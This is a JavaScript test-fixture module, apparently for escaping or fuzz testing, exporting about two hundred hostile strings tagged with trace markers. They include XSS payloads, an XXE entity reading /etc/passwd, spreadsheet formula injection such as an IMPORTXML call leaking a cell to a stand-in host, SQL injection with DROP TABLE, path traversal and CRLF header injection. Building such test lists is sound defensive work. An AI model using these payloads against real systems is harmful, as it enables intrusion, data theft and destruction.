// SPDX-License-Identifier: Apache-2.0
// Two hundred texts that broke some program somewhere. Each carries a mark of its own, by which it
// is found again.

const raw = [
  // elements and handlers
  '<script>alert(1)</script>', '<SCRIPT SRC=//example.invalid/x.js></SCRIPT>', '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg/onload=alert`1`>', '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<a href=javascript:alert(1)>x</a>',
  '<math><mtext></form><form action=//example.invalid>', '<form action=//example.invalid><button>',
  '<base href=//example.invalid/>', '<meta http-equiv=refresh content="0;url=//example.invalid">',
  '<link rel=stylesheet href=//example.invalid/x.css>', '<style>*{display:none}</style>', '<object data=x>',
  '<embed src=x>', '<video><source onerror=alert(1)>', '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src="x` `<script>alert(1)</script>"` `>',
  // closing what is around
  '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>', '</option></select><script>alert(1)</script>', '</td></tr></table><h1>x</h1>',
  '</main></body></html>', '</form><form action=/sign-out method=post>', '</p></div></section>', '</a></li></ul>',
  '-->', '--!><script>alert(1)</script>', '<!--', '<!-- --!>', ']]>', '<![CDATA[x]]>', '<?php echo 1; ?>', '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '<b>unclosed', '<h1 class="', '<', 
  // quotes
  '"', "'", '`', '""', "''", '"\'`', '" onfocus="alert(1)" autofocus="', "' onfocus='alert(1)' autofocus='",
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" style="display:none', '\\"', "\\'", '"/>', '“”‘’«»「」『』',
  '" x="', '\\";alert(1);//', "';alert(1);//", '`;alert(1);//', '"]);alert(1);//',
  // templates
  '{{csrf}}', '{{#each x}}', '{{/if}}', '{{{x}}}', '{{> frame}}', '{{!x}}', '${alert(1)}', '#{7*7}', '<%= 7*7 %>', '{%x%}', '[[x]]', '%s%s%n%x',
  '$1 $& $` $\'', '{{constructor.constructor("alert(1)")()}}', '$(id)', '`id`', 
  // heads of formulas
  '=1+1', '=HYPERLINK("http://example.invalid","x")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '=', '+', '-', 
  '＝１＋１', '＠x', '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")', "'=1+1", '"=1+1"', ' =1+1',
  // cells
  'a,b,c', 'a\tb', 'a"b"c', ',,,', '","', 'x\ny', 'x\n=1+1', 
  // Unicode
  '\u202eabc\u202c', '\u2066abc\u2069', '\u200fabc', 'a\u200bb', 'a\u200d\u200cb', '\ufeffabc', 'か\u3099き\u309a', 'a\u0300\u0301\u0302\u0303\u0304\u0305',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', '𠮷野家', '辻󠄀', '葛󠄀城市', '𩸽', '👨‍👩‍👧‍👦', '🇯🇵', '☃️', '①②㈱㍿', 'ｶﾞｷﾞ', '～〜−－‖∥', '髙﨑', '\u00a0x\u00a0', '\u3000x\u3000',
  'ﷺ', '𝕏𝕐', '\u2028x', '\u2029x', '\u0085x', '\ue000', '\ufffd', '\ufffe', '\uffff', '\u{10ffff}', '＜ｓｃｒｉｐｔ＞', '﹤script﹥', 'ſcript', 'İıſK',
  // control, encodings
  '\x00', '\x01\x02', '\x07', '\x1b[31m', '\x7f', '\\0', '%00', '\\u0000', '&#0;', '&#x3c;script&#x3e;', '&lt;script&gt;', '&amp;amp;', '&quot;', '&nbsp', '&',
  '%3Cscript%3E', '%253C', 'a+b%20c', '%', '%zz', '%u003c', '\\x3cscript\\x3e', '\\u003cscript\\u003e', 'x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: //x',
  // other languages
  "' OR '1'='1", "'; DROP TABLE person; --", '" OR ""="', '1; SELECT 1', "x' UNION SELECT 1--", 'undefined',
  '{"a":1}', '"}],"x":[{"', '\\', '\\\\', 'a\\', '../../etc/passwd', '..\\..\\x', '/etc/passwd', 'C:\\x', '//example.invalid/', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'https://example.invalid/"onclick="alert(1)', 'https://example.invalid/?a=1&b=<c>', 'vbscript:x', 'feed:javascript:alert(1)', 'x\n\n=1+1,"', '0', '1e309',
];

const marked = (text, i) => `${text}h${String(i).padStart(3, '0')}z`;

/** Long ones come last: lines of 300 characters, a word without a break, 300 line feeds. */
const long = ['あ'.repeat(300), 'W'.repeat(300), '𠮷'.repeat(150), '\n'.repeat(150), '<b>'.repeat(100), '"&<'.repeat(100)];

export const MARK = /h(\d{3})z/g;
export const HOSTILE = [...raw, ...long].map(marked);
